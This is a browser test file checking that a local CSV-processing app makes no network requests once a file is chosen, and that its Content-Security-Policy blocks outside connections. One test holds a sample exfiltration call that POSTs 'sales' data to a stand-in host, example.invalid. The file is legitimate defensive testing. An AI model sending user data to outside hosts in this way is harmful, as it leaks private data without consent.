// After a file is chosen, nothing leaves the machine.
import assert from "node:assert/strict";
import { test } from "node:test";
import { useBrowser, withPage } from "../support/browser.mjs";
import { actionRows, download, runToEnd, startFile } from "../support/page.mjs";
import { withFolder, writeDemo } from "../support/native.mjs";
import { realCsv, url } from "../support/settings.mjs";

useBrowser();

/** Every request the page, its workers or anything else in the context makes. */
async function watch(page, context) {
  const seen = [];
  const note = (address) => {
    if (!address.startsWith("blob:")) seen.push(address);
  };
  page.on("request", (request) => note(request.url()));
  page.on("websocket", (socket) => note(socket.url()));
  await context.route("**/*", (route) => {
    note(route.request().url());
    return route.continue();
  });
  return seen;
}

test("no request leaves after a file is chosen, and none is needed", () =>
  withFolder((folder) =>
    withPage({}, async (page, complaints, context) => {
      const seen = await watch(page, context);
      // The watch works, for the page and for its worker: a fresh load is seen, engine and all.
      await page.reload({ waitUntil: "networkidle" });
      assert.ok(seen.some((address) => address.startsWith(url)));
      assert.ok(seen.some((address) => /engine.*\.wasm/.test(address)), "the worker's wasm is seen");

      seen.length = 0;
      await context.setOffline(true);
      const file = realCsv ?? writeDemo(folder);
      await runToEnd(page, (page) => startFile(page, file));
      assert.ok((await actionRows(page).count()) > 0);
      await page.getByTestId("action-search").fill("P1");
      await download(page, "download-campaign_actions.csv");
      await page.waitForTimeout(1000);
      assert.deepEqual(seen, []);
      assert.deepEqual(complaints, []);
    }),
  ));

test("the address of another host is refused by the page's own policy", () =>
  withPage({}, async (page) => {
    const outcome = await page.evaluate(() =>
      fetch("https://example.invalid/collect", { method: "POST", body: "sales" }).then(
        () => "sent",
        () => "refused",
      ),
    );
    assert.equal(outcome, "refused");
    const policy = await page
      .locator('meta[http-equiv="Content-Security-Policy"]')
      .getAttribute("content");
    assert.match(policy, /default-src 'none'/);
    assert.match(policy, /connect-src 'self'(;|$)/);
    assert.doesNotMatch(policy, /unsafe-inline|'unsafe-eval'|\*/);
  }));
